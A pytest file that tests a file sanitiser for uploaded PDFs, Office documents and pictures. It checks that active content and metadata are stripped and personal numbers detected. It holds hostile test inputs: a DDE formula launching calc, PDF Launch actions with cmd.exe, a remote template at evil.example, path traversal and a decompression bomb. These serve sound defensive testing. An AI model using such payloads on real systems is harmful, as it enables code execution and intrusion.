"""What comes out of a file that was sent: what is seen of it, and nothing that acts, hides or tells."""

import io
import struct
import zipfile
import zlib
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pikepdf
import pytest
from PIL import Image

from library.files.guarding import Finding
from library.files.limited import Rewritten, rewritten
from library.files.refusals import Refused, Remark, Why
from tests.library import made_files as made


class Came:
    """What came of one file."""

    def __init__(self, folder: Path, content: bytes) -> None:
        source, self.target = folder / "sent", folder / "kept"
        source.write_bytes(content)
        self.told: Rewritten = rewritten(source, self.target)
        self.content = self.target.read_bytes()


@pytest.fixture
def come(tmp_path: Path) -> Any:
    return lambda content: Came(tmp_path, content)


def refused(folder: Path, content: bytes) -> Why:
    with pytest.raises(Refused) as refusal:
        Came(folder, content)
    return refusal.value.why


def kinds(found: list[Finding] | Any) -> list[str]:
    return sorted({one.kind for one in found})


def test_a_phone_picture_stands_upright_and_says_nothing_of_the_phone_or_the_place(come: Any) -> None:
    came = come(made.lying_phone_picture())
    with Image.open(io.BytesIO(came.content)) as kept:
        assert (kept.format, kept.size) == ("JPEG", (40, 60)) and not kept.getexif()
    assert b"Telephone" not in came.content and b"Exif" not in came.content


def test_a_picture_whose_notes_are_damaged_is_kept_as_it_lies(come: Any) -> None:
    came = come(made.picture(exif=b"Exif\x00\x00MM\x00*\xff\xff\xff\xff"))
    with Image.open(io.BytesIO(came.content)) as kept:
        assert kept.size == (60, 40)


def test_of_two_pictures_in_one_file_the_first_is_kept_and_that_is_said(come: Any) -> None:
    came = come(made.two_pictures_in_one())
    with Image.open(io.BytesIO(came.content)) as kept:
        green = kept.getpixel((5, 5))
        assert isinstance(green, tuple) and green[1] > 100 and getattr(kept, "n_frames", 1) == 1
    assert came.told.remarks == [Remark.FIRST_PICTURE]


def test_what_is_tied_to_the_end_of_a_picture_does_not_come_along(come: Any) -> None:
    came = come(made.picture("PNG") + b"PK\x03\x04" + made.HTML)
    assert b"script" not in came.content and came.content.startswith(b"\x89PNG")


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (made.SVG, Why.KIND),
        (made.HTML, Why.KIND),
        (made.EICAR, Why.KIND),
        (b"MZ\x90\x00" + b"\x00" * 200, Why.KIND),
        (made.HEIC, Why.HEIC),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, Why.OLD_OFFICE),
        (b"%PDF-1.7\n" + b"garbage " * 40, Why.BROKEN),
        (made.picture()[:200], Why.BROKEN),
        (made.picture("PNG", (30_000, 30_000)), Why.PIXELS),
        (made.pdf("x", encryption=pikepdf.Encryption(user="opens", owner="owns")), Why.PASSWORD),
        (made.bomb(), Why.OPENS_TOO_LARGE),
        (made.with_parts(made.letter("x"), {"word/vbaProject.bin": b"x"}), Why.MACROS),
        (made.with_parts(made.letter("x"), {"word/embeddings/oleObject1.bin": b"x"}), Why.EMBEDDED),
        (made.with_parts(made.sheet({}), {"xl/externalLinks/externalLink1.xml": b"<x/>"}), Why.READS_OTHERS),
        (made.sheet({"A1": "=cmd|' /C calc'!A0"}), Why.READS_OTHERS),
        (made.with_parts(made.letter("x"), {"../outside.xml": b"<x/>"}), Why.BROKEN),
        (made.with_parts(made.letter("x"), {"[Content_Types].xml": None}), Why.KIND),
    ],
)
def test_what_is_no_document_or_does_more_than_be_read_is_refused(
    tmp_path: Path, content: bytes, why: Why
) -> None:
    assert refused(tmp_path, content) == why


def test_a_picture_that_says_it_is_as_large_as_a_wall_is_never_painted(tmp_path: Path) -> None:
    header = made.picture("PNG", (1, 1))
    said = b"IHDR" + struct.pack("!IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    huge = header[:8] + struct.pack("!I", 13) + said + struct.pack("!I", zlib.crc32(said)) + header[33:]
    assert refused(tmp_path, huge) == Why.PIXELS


def test_a_pdf_keeps_its_page_and_loses_what_acts_hides_and_leads_astray(come: Any) -> None:
    came = come(made.acting_pdf())
    with pikepdf.open(io.BytesIO(came.content)) as kept:
        objects = "".join(repr(one) for one in kept.objects)
        (links,) = [page.obj.Annots for page in kept.pages]
        assert len(links) == 3 and str(links[2].A.URI) == "https://example.org/a"
        assert not kept.attachments and "/Info" not in kept.trailer
    for gone in (
        "JavaScript",
        "alert",
        "Launch",
        "cmd.exe",
        "XFA",
        "/AA",
        "carried",
        "Somebody",
        "EmbeddedFile",
    ):
        assert gone not in objects and gone.encode() not in came.content, gone
    assert set(came.told.remarks) == {Remark.ACTIVE_TAKEN_OUT, Remark.LINKS_TAKEN_OUT}


@pytest.mark.parametrize("is_packed", [False, True])
def test_a_photograph_in_a_pdf_says_nothing_of_the_phone_or_the_place(come: Any, is_packed: bool) -> None:
    photograph = made.lying_phone_picture(comment=b"Taken by somebody") + b"tied to its end"

    def change(made_pdf: pikepdf.Pdf) -> None:
        stream = made_pdf.make_stream(zlib.compress(photograph) if is_packed else photograph)
        stream.Type, stream.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
        stream.Width, stream.Height, stream.BitsPerComponent = 60, 40, 8
        stream.ColorSpace = pikepdf.Name.DeviceRGB
        packed = [pikepdf.Name.FlateDecode] if is_packed else []
        stream.Filter = pikepdf.Array([*packed, pikepdf.Name.DCTDecode])
        made_pdf.pages[0].obj.Resources.XObject = pikepdf.Dictionary(P=stream)

    came = come(made.pdf("Minutes", change=change))
    with pikepdf.open(io.BytesIO(came.content)) as kept:
        content = kept.pages[0].obj.Resources.XObject.P.read_raw_bytes()
    for gone in (b"Exif", b"Telephone", b"somebody", b"tied"):
        assert gone not in content and gone not in came.content
    with Image.open(io.BytesIO(content)) as shown, Image.open(io.BytesIO(photograph)) as sent:
        assert shown.tobytes() == sent.tobytes() and not shown.getexif()


@pytest.mark.parametrize("beside", [{"K": 1}, {"Pg": 1}, {"P": 1}, {"Type": pikepdf.Name.StructElem}])
@pytest.mark.parametrize(
    "kind", ["Launch", "SubmitForm", "ImportData", "GoToR", "GoToE", "JavaScript", "Named", "Unheard"]
)
def test_an_action_is_taken_out_of_a_pdf_whatever_else_stands_in_it(
    come: Any, kind: str, beside: dict[str, Any]
) -> None:
    def change(made_pdf: pikepdf.Pdf) -> None:
        action = pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), F=pikepdf.String("cmd.exe"), **beside)
        first = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([0]), Next=pikepdf.Array([action]))
        box = pikepdf.Array([0, 0, 9, 9])
        link: dict[str, Any] = {"Type": pikepdf.Name.Annot, "Subtype": pikepdf.Name.Link, "Rect": box}
        links = [pikepdf.Dictionary(**link, A=made_pdf.make_indirect(one)) for one in (action, first)]
        made_pdf.pages[0].obj.Annots = pikepdf.Array(links)

    came = come(made.pdf("Minutes", change=change))
    with pikepdf.open(io.BytesIO(came.content)) as kept:
        objects = "".join(repr(one) for one in kept.objects)
        assert f"/{kind}" not in objects and "cmd.exe" not in objects and "/GoTo" in objects
    assert came.told.remarks == [Remark.ACTIVE_TAKEN_OUT]


def test_the_parts_of_a_text_and_how_they_look_are_no_actions(come: Any) -> None:
    def change(made_pdf: pikepdf.Pdf) -> None:
        look = pikepdf.Dictionary(O=pikepdf.Name.Layout, Placement=pikepdf.Name.Block)
        part = pikepdf.Dictionary(
            Type=pikepdf.Name.StructElem, S=pikepdf.Name.P, K=0, A=pikepdf.Array([look, 0])
        )
        made_pdf.Root.StructTreeRoot = pikepdf.Dictionary(Type=pikepdf.Name.StructTreeRoot, K=part)

    came = come(made.pdf("Minutes", change=change))
    with pikepdf.open(io.BytesIO(came.content)) as kept:
        (look, _revision) = kept.Root.StructTreeRoot.K.A
        assert kept.Root.StructTreeRoot.K.S == "/P" and look.Placement == "/Block"
    assert came.told.remarks == []


def test_a_pdf_with_a_password_of_its_owner_alone_is_taken(come: Any) -> None:
    came = come(made.pdf("Read by all", encryption=pikepdf.Encryption(user="", owner="owns")))
    with pikepdf.open(io.BytesIO(came.content)) as kept:
        assert len(kept.pages) == 1 and not kept.is_encrypted


def test_of_a_signed_pdf_it_is_said_that_its_signature_ended(come: Any) -> None:
    came = come(made.signed_pdf())
    assert came.told.remarks == [Remark.SIGNATURE_ENDED]
    with pikepdf.open(io.BytesIO(came.content)) as kept:
        assert "/SigFlags" not in kept.Root.AcroForm and "/V" not in kept.Root.AcroForm.Fields[0]


def test_a_letter_comes_out_whole_and_without_who_wrote_it(come: Any) -> None:
    def change(document: Any) -> None:
        document.core_properties.author = "Somebody of the office"
        document.add_picture(io.BytesIO(made.lying_phone_picture()))

    came = come(made.letter("ভালো খবর", change=change))
    kept = docx.Document(io.BytesIO(came.content))
    assert kept.paragraphs[0].text == "ভালো খবর" and len(kept.inline_shapes) == 1
    assert b"Somebody" not in b"".join(made.part_of(came.content, one) for one in made.parts_of(came.content))
    assert b"Telephone" not in b"".join(
        made.part_of(came.content, one) for one in made.parts_of(came.content)
    )


@pytest.mark.parametrize(
    ("name", "form"),
    [("a.tiff", "TIFF"), ("a.gif", "JPEG"), ("a.bmp", "JPEG"), ("a.emf", "JPEG"), ("a.wmf", "PNG")],
)
def test_a_photograph_in_a_letter_says_nothing_whatever_its_part_is_called(
    come: Any, name: str, form: str
) -> None:
    photograph = made.lying_phone_picture(form)
    assert b"Telephone" in photograph
    came = come(made.with_parts(made.letter("x"), {f"word/media/{name}": photograph}))
    kept = made.part_of(came.content, f"word/media/{name}")
    with Image.open(io.BytesIO(kept)) as shown:
        assert shown.format == form and b"Telephone" not in kept


def test_a_drawing_that_cannot_be_painted_is_refused_and_one_beside_its_picture_goes(
    come: Any, tmp_path: Path
) -> None:
    drawing = b"\x01\x00\x00\x00" + b"\x00" * 36 + b" EMF" + made.lying_phone_picture()
    for name in ("a.emf", "a.wmf"):
        assert (
            refused(tmp_path, made.with_parts(made.letter("x"), {f"word/media/{name}": drawing}))
            == Why.DRAWING
        )
    came = come(made.with_parts(made.letter("x"), {"word/media/a.svg": made.SVG}))
    assert "word/media/a.svg" not in made.parts_of(came.content)


def test_a_template_and_a_link_to_a_file_elsewhere_are_taken_out_of_a_letter(come: Any) -> None:
    relation = (
        '<Relationship Id="rIdX" TargetMode="External" Target="{}" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}"/></Relationships>'
    )
    plain = made.letter("x")
    settings = made.part_of(plain, "word/settings.xml").replace(
        b"</w:settings>",
        b'<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
        b'r:id="rIdX"/></w:settings>',
    )
    relations = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    template = relations + relation.format("http://evil.example/t.dotm", "attachedTemplate").encode()
    links = made.part_of(plain, "word/_rels/document.xml.rels").replace(
        b"</Relationships>", relation.format("file://server/share", "hyperlink").encode()
    )
    changed = {
        "word/settings.xml": settings,
        "word/_rels/settings.xml.rels": template,
        "word/_rels/document.xml.rels": links,
    }
    came = come(made.with_parts(plain, changed))
    assert came.told.remarks == [Remark.LINKS_TAKEN_OUT]
    for name in made.parts_of(came.content):
        part = made.part_of(came.content, name)
        assert b"evil" not in part and b"attachedTemplate" not in part and b"file://" not in part
    docx.Document(io.BytesIO(came.content))


def test_a_sheet_comes_out_with_its_values(come: Any) -> None:
    came = come(made.sheet({"A1": "Union", "B1": 12, "B2": "=B1*2"}))
    book = openpyxl.load_workbook(io.BytesIO(came.content))
    assert [book.active[place].value for place in ("A1", "B1", "B2")] == ["Union", 12, "=B1*2"]


def test_xml_that_names_a_text_of_its_own_is_not_read(tmp_path: Path) -> None:
    laughs = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaa">]><w>&a;</w>'
    assert refused(tmp_path, made.with_parts(made.letter("x"), {"word/footnotes.xml": laughs})) == Why.BROKEN


def _in_header(document: Any, words: str) -> None:
    document.sections[0].header.paragraphs[0].text = words


def _in_footer(document: Any, words: str) -> None:
    document.sections[0].footer.paragraphs[0].text = words


def _in_table(document: Any, words: str) -> None:
    document.add_table(1, 1).cell(0, 0).text = words


def _in_comment(document: Any, words: str) -> None:
    document.add_comment(document.paragraphs[0].runs, text=words)


def _in_boxes(document: Any, words: str) -> None:
    row = document.add_table(1, len(words)).rows[0]
    for cell, digit in zip(row.cells, words, strict=True):
        cell.text = digit


_IN_XML = {
    "inserted": "<w:ins w:id='1' w:author='x'><w:r><w:t>{}</w:t></w:r></w:ins>",
    "struck out": "<w:del w:id='1' w:author='x'><w:r><w:delText>{}</w:delText></w:r></w:del>",
    "in pieces": "<w:r><w:t>{0[0]}</w:t></w:r><w:r><w:t>{0[1]}</w:t></w:r>",
    "a text box": "<w:r><w:pict><v:shape xmlns:v='urn:schemas-microsoft-com:vml'><v:textbox><w:txbxContent>"
    "<w:p><w:r><w:t>{}</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r>",
}
NUMBER = "1991234567"


@pytest.mark.parametrize("place", [_in_header, _in_footer, _in_table, _in_comment, _in_boxes])
def test_a_number_is_found_wherever_it_stands_in_a_letter(come: Any, place: Any) -> None:
    came = come(made.letter("Minutes", change=lambda document: place(document, NUMBER)))
    assert kinds(came.told.found) == ["national-identity"] and not came.told.found[0].may_be_office


@pytest.mark.parametrize("name", _IN_XML)
def test_a_number_is_found_in_what_was_put_in_struck_out_or_set_beside(come: Any, name: str) -> None:
    told = _IN_XML[name].format((NUMBER[:4], NUMBER[4:]) if "0[" in _IN_XML[name] else NUMBER)
    plain = made.letter("Minutes")
    document = made.part_of(plain, "word/document.xml").replace(b"</w:p>", f"{told}</w:p>".encode(), 1)
    came = come(made.with_parts(plain, {"word/document.xml": document}))
    assert kinds(came.told.found) == ["national-identity"]


def test_a_number_is_found_in_a_note_and_in_a_link(come: Any) -> None:
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    words = f"<w:footnote><w:p><w:r><w:t>{NUMBER}</w:t></w:r></w:p></w:footnote>"
    note = f"<w:footnotes xmlns:w='{space}'>{words}</w:footnotes>"
    assert come(made.with_parts(made.letter("x"), {"word/footnotes.xml": note.encode()})).told.found
    links = made.part_of(made.letter("x"), "word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="q" TargetMode="External" Target="https://example.org/01711222333" Type="http://'
        b'schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/></Relationships>',
    )
    came = come(made.with_parts(made.letter("x"), {"word/_rels/document.xml.rels": links}))
    assert kinds(came.told.found) == ["phone"]


@pytest.mark.parametrize(
    ("value", "found"),
    [
        (2991234567, ["national-identity"]),
        (1712345678, ["phone"]),
        ("01712-345678", ["phone"]),
        ("A01234567", ["passport"]),
        (1_250_000_000, []),
        (0.33333333333333, []),
        (12_345_678.9, []),
    ],
)
def test_a_cell_is_read_as_somebody_reads_it(come: Any, value: object, found: list[str]) -> None:
    assert kinds(come(made.sheet({"A1": value, "A2": 7, "B2": 12})).told.found) == found


def test_a_number_is_found_in_a_name_and_in_a_comment_of_a_sheet(come: Any) -> None:
    def change(book: Any) -> None:
        book.active.title = f"list {NUMBER}"
        book.active["A1"].comment = openpyxl.comments.Comment("01711-222333", "x")

    assert kinds(come(made.sheet({"A1": 1}, change)).told.found) == ["national-identity", "phone"]


def test_a_number_is_found_on_a_page_and_in_a_field_of_a_pdf(come: Any) -> None:
    assert kinds(come(made.pdf("Call 01711-222333 today")).told.found) == ["phone"]

    def change(made_pdf: pikepdf.Pdf) -> None:
        field = pikepdf.Dictionary(FT=pikepdf.Name.Tx, T=pikepdf.String("x"), V=pikepdf.String(NUMBER))
        made_pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([made_pdf.make_indirect(field)]))

    assert kinds(come(made.pdf("Minutes", change=change)).told.found) == ["national-identity"]


def test_figures_of_a_table_that_only_stand_side_by_side_may_be_an_office_s(come: Any) -> None:
    found = come(made.pdf("12 15 18 22 30")).told.found
    assert [one.may_be_office for one in found] == [True]


def test_the_process_that_opens_files_has_no_secret_of_the_portal(tmp_path: Path) -> None:
    from library.files import limited

    said = Path(limited.__file__).read_text(encoding="utf-8")
    assert "env={" in said and "os.environ" not in said


def test_a_file_that_takes_all_memory_is_refused_and_the_portal_goes_on(tmp_path: Path) -> None:
    """A picture within the points that are read, written so that opening it wants more than there is."""
    packed = made.with_parts(
        made.letter("x"), {f"word/part{n}.xml": b"<a>" + b" " * 25_000_000 + b"</a>" for n in range(6)}
    )
    assert refused(tmp_path, packed) in (Why.OPENS_TOO_LARGE, Why.BROKEN)
    assert zipfile.is_zipfile(io.BytesIO(packed))
